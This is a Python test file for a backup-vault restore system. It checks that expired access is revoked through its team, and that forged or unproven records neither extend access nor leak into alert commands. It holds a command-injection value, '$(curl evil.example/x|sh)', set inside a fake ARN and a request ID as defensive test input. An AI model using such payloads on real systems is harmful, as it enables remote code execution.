"""An access whose time is over is revoked by its team, which the sweep asks; one that is needed is not."""

from collections.abc import Callable
from copy import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from strongroom.domain.alerts.complaints import AlertKind
from strongroom.domain.canonical import read_canonical
from strongroom.domain.errors import AccessRefusedError, TemporarilyUnavailableError
from strongroom.domain.evidence.object_keys import end_asked_key, end_revoking_key, entry_key
from strongroom.domain.restores.ends.revoking import AskedToRevoke
from strongroom.domain.restores.ends.standing import ACCESS, EndState, OpenEnd, begun_access, opened
from strongroom.services.restores.acting.check_restore import check_restore
from strongroom.services.restores.acting.starting.start_restore import start_restore
from strongroom.services.restores.ends.begin_end import begin_end
from strongroom.services.restores.ends.look_at_end import look_at_end
from tests.builders.air_gaps import TEAM
from tests.fakes.restores.opened import GAPPED, TABLE, come_to_approval
from tests.fakes.restores.world import CeremonyWorld


@pytest.fixture
def running(world: CeremonyWorld) -> OpenEnd:
    """The end of an access that was opened, and out of which the restore was started."""
    made = come_to_approval(world)
    with pytest.raises(TemporarilyUnavailableError):
        start_restore(made, execution=world.execution(made), needs=world.restoring, now=world.now)
    world.access.vote("AVAILABLE")
    start_restore(made, execution=world.execution(made), needs=world.restoring, now=world.now)
    begin_end(world.kept(made), needs=world.following, now=world.now)
    end = world.following.ends.end_of(made, ACCESS)
    assert end is not None
    return look(world, end)


@pytest.fixture
def over(world: CeremonyWorld, running: OpenEnd) -> OpenEnd:
    """The same once the ceremony has come to its end, and the time of the access is over."""
    come_to_end(world, running)
    world.now = running.expires_at
    return running


def come_to_end(world: CeremonyWorld, end: OpenEnd) -> None:
    world.restores.states, world.restores.changes = ["COMPLETED"], {"created": f"{TABLE}-0200"}
    execution = world.execution(end.request_id)
    check_restore(end.request_id, execution=execution, needs=world.checking_restore, now=world.now)
    world.close(end.request_id, reason="")


def look(world: CeremonyWorld, end: OpenEnd) -> OpenEnd:
    return look_at_end(end, needs=world.following, now=world.now)


def test_its_team_is_asked_once_its_time_is_over_and_that_is_evidence_before(
    world: CeremonyWorld, over: OpenEnd
) -> None:
    found, asked = look(world, over), world.now
    assert world.revoker.asked_of == [(over.vault, TEAM)]
    assert (found.state, found.reason) == (EndState.OPEN, "it is open: its team is asked to let it be revoked")
    said = read_canonical(world.shelf.kept[end_revoking_key(over.request_id, ACCESS, at=world.now)])
    assert (said["vault"], said["source"], said["team"]) == (over.vault, GAPPED, TEAM)
    world.now += timedelta(hours=1)
    assert "its team has until" in look(world, found).reason
    assert len(world.revoker.asked_of) == 1
    came = read_canonical(world.shelf.kept[end_asked_key(over.request_id, ACCESS, at=asked)])
    assert (came["is_asked"], came["refused"]) == (True, "")


def test_once_the_team_has_let_it_go_it_is_found_gone(world: CeremonyWorld, over: OpenEnd) -> None:
    found = look(world, over)
    world.access.vaults.clear()
    assert look(world, look(world, found)).state is EndState.GONE
    assert AlertKind.VAULT_ACCESS_OVERDUE not in [each.kind for each in world.alerts.told]


def _too_early(world: CeremonyWorld, end: OpenEnd) -> str:
    world.now = end.expires_at - timedelta(seconds=1)
    return "after"


def _job_runs(world: CeremonyWorld, end: OpenEnd) -> str:
    world.access.uses = ("restore job 1",)
    return "restore job 1 may read through it"


def _shows_another(world: CeremonyWorld, end: OpenEnd) -> str:
    world.access.vaults[end.vault] = replace(world.access.vaults[end.vault], source=f"{GAPPED}-other")
    return "is not revoked from here"


def _evidence_is_gone(world: CeremonyWorld, end: OpenEnd) -> str:
    del world.shelf.kept[entry_key(end.request_id, 1)]
    return "its evidence cannot be read"


@pytest.mark.parametrize("needed", [_too_early, _job_runs, _shows_another, _evidence_is_gone])
def test_what_is_needed_or_cannot_be_known_is_not_revoked(
    needed: Callable[[CeremonyWorld, OpenEnd], str], world: CeremonyWorld, over: OpenEnd
) -> None:
    why, reason = needed(world, over), look(world, over).reason
    assert why in reason
    assert "by hand" not in reason
    assert world.revoker.asked_of == []


def test_while_its_ceremony_goes_on_it_is_kept_however_late(world: CeremonyWorld, running: OpenEnd) -> None:
    world.now = running.gone_by + timedelta(days=9)
    assert "has not come to its end" in look(world, running).reason
    assert world.revoker.asked_of == []


FOREVER = datetime(9999, 1, 1, tzinfo=UTC)
EVIL = "arn:aws$(curl evil.example/x|sh):backup:eu-west-1:111111111111:backup-vault:strongroom-access-r-77"


def test_a_row_that_says_too_early_revokes_nothing(world: CeremonyWorld, running: OpenEnd) -> None:
    """The ledger proves nothing: when its time is over, the evidence says."""
    come_to_end(world, running)
    forged = replace(running, expires_at=world.now - timedelta(days=1), gone_by=world.now)
    found = look(world, forged)
    assert f"after {running.expires_at:%Y-%m-%d %H:%M} UTC" in found.reason
    assert (found.expires_at, found.gone_by) == (running.expires_at, running.gone_by)
    assert world.revoker.asked_of == []


@pytest.mark.parametrize(
    "lie",
    [
        {"expires_at": FOREVER, "gone_by": FOREVER},
        {"vault": EVIL, "source": EVIL, "account": "111111111111", "resource": EVIL, "owner": EVIL},
        {"state": EndState.UNREAD},
        {"state": EndState.GONE},
    ],
    ids=["for ever", "of another vault", "unread", "gone"],
)
def test_a_row_that_lies_of_an_access_keeps_it_open_no_longer_and_puts_nothing_into_a_command(
    lie: dict[str, Any], world: CeremonyWorld, over: OpenEnd
) -> None:
    found = look(world, replace(over, **lie))
    assert world.revoker.asked_of == [(over.vault, TEAM)]
    assert found.gone_by == over.gone_by
    world.revoker.fails = AccessRefusedError("strongroom-revoke-access cannot be assumed")
    world.now = over.gone_by + timedelta(minutes=10)
    look(world, replace(found, **lie))
    [told] = [each for each in world.alerts.told if each.kind is AlertKind.VAULT_ACCESS_OVERDUE]
    assert f"--restore-access-backup-vault-arn {over.vault}" in told.reason
    assert "evil" not in f"{told}"


@pytest.mark.parametrize("request_id", ["INC-9", "r-nobodyasked2", "$(curl evil.example/x|sh)" * 9])
def test_a_row_that_no_evidence_proves_is_told_at_once_without_a_word_of_it_and_without_a_command(
    request_id: str, world: CeremonyWorld, over: OpenEnd
) -> None:
    lie = replace(over, request_id=request_id, vault=EVIL, source=EVIL, resource=EVIL, owner=EVIL)
    forged = replace(lie, expires_at=FOREVER, gone_by=FOREVER)
    world.access.vaults[EVIL] = replace(world.access.vaults[over.vault], arn=EVIL)
    found = look(world, forged)
    [told] = [each for each in world.alerts.told if each.kind is AlertKind.VAULT_ACCESS_OVERDUE]
    assert "there is no command to type" in told.reason
    assert "aws backup" not in told.reason
    assert "backup-vault:" not in f"{told}"
    assert found.due_at == world.now + timedelta(hours=1)
    assert world.revoker.asked_of == []


def test_a_row_of_a_request_whose_team_nobody_was_to_ask_yet_is_told_alike(world: CeremonyWorld) -> None:
    request = world.kept(come_to_approval(world)).sealed.request
    planted = opened(begun_access(request, since=world.now, now=world.now), reason="", now=world.now)
    assert "its evidence tells of none" in look(world, planted).reason
    assert [each.kind for each in world.alerts.told] == [AlertKind.VAULT_ACCESS_OVERDUE]


def test_evidence_that_can_be_read_again_settles_that(world: CeremonyWorld, over: OpenEnd) -> None:
    key = entry_key(over.request_id, 1)
    torn = world.shelf.kept.pop(key)
    unread = look(world, over)
    assert unread.state is EndState.UNREAD
    world.shelf.kept[key] = torn
    found = look(world, unread)
    assert (found.vault, found.owner) == (over.vault, over.owner)
    assert world.revoker.asked_of == [(over.vault, TEAM)]
    assert unread.alert in world.alerts.settled


def test_a_team_that_refuses_is_asked_a_day_later_and_meanwhile_is_said_what_to_type(
    world: CeremonyWorld, over: OpenEnd
) -> None:
    look(world, over)
    world.revoker.last = AskedToRevoke(state="FAILED", since=world.now, message="REJECTED")
    world.now += timedelta(hours=2)
    reason = look(world, over).reason
    assert "has not (REJECTED)" in reason
    assert f"--restore-access-backup-vault-arn {over.vault}" in reason
    world.now += timedelta(hours=22)
    look(world, over)
    assert len(world.revoker.asked_of) == 2


def test_what_cannot_be_revoked_is_told_once_overdue_with_what_to_type(world: CeremonyWorld, over: OpenEnd) -> None:
    world.revoker.fails = AccessRefusedError("strongroom-revoke-access cannot be assumed")
    world.now = over.gone_by + timedelta(minutes=10)
    found = look(world, over)
    assert (found.state, found.is_overdue(world.now)) == (EndState.OPEN, True)
    [told] = [each for each in world.alerts.told if each.kind is AlertKind.VAULT_ACCESS_OVERDUE]
    assert "strongroom-revoke-access cannot be assumed; by hand, in account" in told.reason


def test_what_aws_backup_does_not_take_is_tried_once_a_day_said_and_kept(world: CeremonyWorld, over: OpenEnd) -> None:
    world.revoker.refuses = AccessRefusedError("no right to it")
    world.now = over.expires_at.replace(hour=1) + timedelta(days=1)
    first = look(world, over)
    assert "could not be asked to let it be revoked: no right to it; by hand" in first.reason
    came = read_canonical(world.shelf.kept[end_asked_key(over.request_id, ACCESS, at=world.now)])
    assert (came["is_asked"], came["refused"]) == (False, "no right to it")
    kept = len(world.shelf.kept)
    world.now += timedelta(hours=22)
    again = look(world, first)
    assert "its team was to be asked to let it be revoked today, once; by hand" in again.reason
    assert (len(world.revoker.asked_of), len(world.shelf.kept)) == (1, kept)
    world.now += timedelta(hours=1)
    look(world, again)
    assert len(world.revoker.asked_of) == 2


def test_what_is_listed_late_is_not_asked_twice(world: CeremonyWorld, over: OpenEnd) -> None:
    found = look(world, over)
    world.revoker.last = None
    look(world, found)
    assert len(world.revoker.asked_of) == 1
